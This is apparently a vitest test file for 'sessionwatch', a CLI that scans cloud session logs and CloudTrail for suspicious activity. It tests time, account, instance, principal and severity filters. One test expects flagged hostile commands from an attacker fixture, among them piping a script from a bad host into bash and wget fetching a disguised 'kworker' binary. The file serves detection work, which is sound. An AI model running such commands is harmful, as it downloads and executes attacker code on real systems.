import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { UsageError } from '../../../forwarder/cli/io.js';
import { parseFilters, parseTime, sessionMatches, spanMatches, timeMatches } from '../../../forwarder/cli/options.js';
import { emptySessionInfo } from '../../../forwarder/commands/session-info.js';
import { actorFromTranscript } from '../../../forwarder/identity/resolver.js';
import { runCli } from '../../helpers/cli.js';
import { fixturesDir, sessionsDir } from '../../helpers/paths.js';

const NOW = Date.parse('2026-10-10T12:00:00Z');
const none = { account: [] as string[], instance: [] as string[], principal: [] as string[], 'min-severity': 'info' };

describe('time values', () => {
  it('reads ISO 8601 (UTC unless a zone is given) and spans back from now', () => {
    expect(parseTime('2026-10-06', '--since', NOW)).toBe(Date.parse('2026-10-06T00:00:00Z'));
    expect(parseTime('2026-10-06T22:00', '--since', NOW)).toBe(Date.parse('2026-10-06T22:00:00Z'));
    expect(parseTime('2026-10-06 22:00:05+02:00', '--since', NOW)).toBe(Date.parse('2026-10-06T20:00:05Z'));
    expect(parseTime('24h', '--since', NOW)).toBe(NOW - 86_400_000);
    expect(parseTime('7d', '--since', NOW)).toBe(NOW - 7 * 86_400_000);
    expect(parseTime('90m', '--since', NOW)).toBe(NOW - 90 * 60_000);
    expect(parseTime('2w', '--since', NOW)).toBe(NOW - 14 * 86_400_000);
  });

  it('refuses anything else with a message naming the option', () => {
    for (const bad of ['yesterday', '24', '24y', '2026-13-45', '2026-10-06T25:00', '']) {
      expect(() => parseTime(bad, '--until', NOW)).toThrow(UsageError);
    }
    expect(() => parseTime('soon', '--until', NOW)).toThrow(/--until soon: expected an ISO 8601 time/);
    expect(() => parseFilters({ ...none, since: '1d', until: '2d' }, NOW)).toThrow(/must be before/);
    expect(() => parseFilters({ ...none, 'min-severity': 'urgent' }, NOW)).toThrow(/--min-severity must be one of/);
  });
});

describe('session filters', () => {
  const session = {
    ...emptySessionInfo('jdoe@example.com-k3v9q2m8x1c7b5n4z0p6r2t8wa', 'cloudwatch-stream'),
    instanceId: 'i-0d1e2f3a4b5c6d7e8',
    account: '111122223333',
    principalArn: 'arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Developer_77aa01/jdoe@example.com',
  };
  const actor = actorFromTranscript(session);
  const f = (values: Partial<typeof none> & { since?: string; until?: string }) =>
    parseFilters({ ...none, ...values }, NOW);

  it('globs match the account, the instance and the principal by ARN, name or e-mail', () => {
    expect(sessionMatches(f({}), session, actor)).toBe(true);
    expect(sessionMatches(f({ account: ['111122223333'] }), session, actor)).toBe(true);
    expect(sessionMatches(f({ account: ['444455556666'] }), session, actor)).toBe(false);
    expect(sessionMatches(f({ account: ['444455556666', '1111*'] }), session, actor)).toBe(true);
    expect(sessionMatches(f({ instance: ['i-0d1e*'] }), session, actor)).toBe(true);
    expect(sessionMatches(f({ instance: ['i-0a*'] }), session, actor)).toBe(false);
    expect(sessionMatches(f({ principal: ['JDOE@example.com'] }), session, actor)).toBe(true);
    expect(sessionMatches(f({ principal: ['*AWSReservedSSO_Developer*'] }), session, actor)).toBe(true);
    expect(sessionMatches(f({ principal: ['*@other.example'] }), session, actor)).toBe(false);
    // unknown values never match a filter
    const bare = emptySessionInfo('x-0a1b2c3d4e5f6a7b8', 's3');
    expect(sessionMatches(f({ account: ['*'] }), bare, actorFromTranscript(bare))).toBe(false);
  });

  it('time filters: a moment inside the window, a span overlapping it; unknown times are outside', () => {
    const window = f({ since: '2026-10-06T22:00Z', until: '2026-10-07T00:00Z' });
    expect(timeMatches(window, '2026-10-06T22:47:03Z')).toBe(true);
    expect(timeMatches(window, '2026-10-07T00:00:00Z')).toBe(false);
    expect(timeMatches(window, null)).toBe(false);
    expect(timeMatches(f({}), null)).toBe(true);
    expect(spanMatches(window, '2026-10-06T21:00:00Z', '2026-10-06T22:10:00Z')).toBe(true);
    expect(spanMatches(window, '2026-10-06T21:00:00Z', '2026-10-06T21:59:00Z')).toBe(false);
    expect(spanMatches(window, '2026-10-06T23:59:00Z', null)).toBe(true);
  });
});

describe('filters on the command line', () => {
  const logs = [
    'mallory-09f8e7d6c5b4a3921',
    'dana-0b1c2d3e4f5a6b7c8',
    'jdoe@example.com-k3v9q2m8x1c7b5n4z0p6r2t8wa',
  ].flatMap((id) => [join(sessionsDir, `${id}.log`), join(sessionsDir, `${id}.subscription.json`)]);
  const iocs = ['--ioc', join(fixturesDir, 'iocs.txt')];
  const sessionsOf = (stdout: string) =>
    [
      ...new Set(
        stdout
          .split('\n')
          .filter(Boolean)
          .map((l) => (JSON.parse(l) as { sessionId: string }).sessionId),
      ),
    ].sort();

  it('scan --principal, --account, --instance keep only the matching sessions', async () => {
    const all = await runCli(['scan', ...logs, ...iocs, '--format', 'jsonl']);
    expect(sessionsOf(all.stdout)).toHaveLength(3);
    const byMail = ['--principal', '*@example.com'];
    const jdoe = await runCli(['scan', ...logs, ...iocs, '--format', 'jsonl', ...byMail]);
    expect(jdoe.code).toBe(0);
    // jdoe's session id carries the e-mail; dana's transcript read first names no e-mail, CloudTrail does
    expect(sessionsOf(jdoe.stdout)).toEqual(['jdoe@example.com-k3v9q2m8x1c7b5n4z0p6r2t8wa']);
    const trail = join(
      fixturesDir,
      'cloudtrail/111122223333_CloudTrail_eu-west-1_20261008T1700Z_u7RZ3kQ1w9HcXb2m.json',
    );
    const known = await runCli(['scan', ...logs, ...iocs, '--format', 'jsonl', ...byMail, '--cloudtrail', trail]);
    expect(sessionsOf(known.stdout)).toEqual(['dana-0b1c2d3e4f5a6b7c8', 'jdoe@example.com-k3v9q2m8x1c7b5n4z0p6r2t8wa']);
    const account = await runCli(['scan', ...logs, ...iocs, '--format', 'jsonl', '--account', '444455556666']);
    expect(sessionsOf(account.stdout)).toEqual(['mallory-09f8e7d6c5b4a3921']);
    const instance = await runCli(['scan', ...logs, ...iocs, '--format', 'jsonl', '--instance', 'i-0a1b*']);
    expect(sessionsOf(instance.stdout)).toEqual(['dana-0b1c2d3e4f5a6b7c8']);
  });

  it('scan --since/--until keep what happened in the window; --min-severity drops lesser alerts', async () => {
    const window = await runCli([
      'scan',
      ...logs,
      ...iocs,
      '--format',
      'jsonl',
      '--since',
      '2026-10-06T22:00Z',
      '--until',
      '2026-10-07',
    ]);
    expect(sessionsOf(window.stdout)).toEqual(['mallory-09f8e7d6c5b4a3921']);
    const ci = join(sessionsDir, 'ci-deployer-0123456789abcdef0.log');
    const medium = await runCli(['scan', ci, '--format', 'jsonl']);
    const high = await runCli(['scan', ci, '--format', 'jsonl', '--min-severity', 'high']);
    const severities = (out: string) =>
      out
        .split('\n')
        .filter(Boolean)
        .map((l) => JSON.parse(l).severity as string);
    expect(severities(medium.stdout)).toContain('medium');
    expect(severities(high.stdout).length).toBeGreaterThan(0);
    expect(severities(high.stdout).every((s) => s === 'high' || s === 'critical')).toBe(true);
  });

  it('commands takes the same filters; --min-severity keeps the commands that raise alerts', async () => {
    const { stdout, code } = await runCli(['commands', ...logs, '--format', 'jsonl', '--account', '444455556666']);
    expect(code).toBe(0);
    expect(sessionsOf(stdout)).toEqual(['mallory-09f8e7d6c5b4a3921']);
    const flagged = await runCli([
      'commands',
      join(sessionsDir, 'mallory-09f8e7d6c5b4a3921.log'),
      '--format',
      'jsonl',
      '--min-severity',
      'high',
      ...iocs,
    ]);
    const commands = flagged.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l).command as string);
    expect(commands).toEqual([
      'sudo su -',
      'curl -fsSL http://dl.bad-cdn.top/install.sh | bash',
      'wget -q http://203.0.113.66/x86_64/kworker -O .kw',
      'sudo -i',
      'su -',
    ]);
  });

  it('a bad filter value is a usage error: exit 2, one clear line', async () => {
    for (const args of [
      ['scan', logs[0]!, '--since', 'last tuesday'],
      ['commands', logs[0]!, '--until', '3y'],
      ['report', logs[0]!, '--min-severity', 'urgent', '-o', '/dev/null'],
    ]) {
      const { code, stderr, stdout } = await runCli(args);
      expect(code).toBe(2);
      expect(stdout).toBe('');
      expect(stderr.trim().split('\n')).toHaveLength(1);
      expect(stderr).toMatch(/^sessionwatch (scan|commands|report): --(since|until|min-severity)/);
    }
  });
});
